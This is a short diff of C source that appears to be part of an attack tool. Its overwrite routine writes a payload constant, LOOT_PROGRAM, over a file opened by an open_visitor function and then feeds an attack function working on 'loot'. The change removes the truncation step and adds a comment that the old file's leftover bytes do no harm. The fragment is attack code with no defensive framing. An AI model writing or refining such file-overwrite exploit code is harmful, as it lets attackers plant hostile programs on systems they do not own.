@@ -48,14 +48,13 @@ static int open_visitor(void)
     return -1;
 }
 
+/* What is left of the old file behind our program does no harm: it ends before. */
 static int overwrite(int fd)
 {
     static const char program[] = LOOT_PROGRAM;
     ssize_t length = sizeof(program) - 1;
 
-    if (write(fd, program, (size_t)length) != length)
-        return errno;
-    return ftruncate(fd, length) < 0 ? errno : 0;
+    return write(fd, program, (size_t)length) == length ? 0 : errno;
 }
 
 static void attack(struct loot *loot)
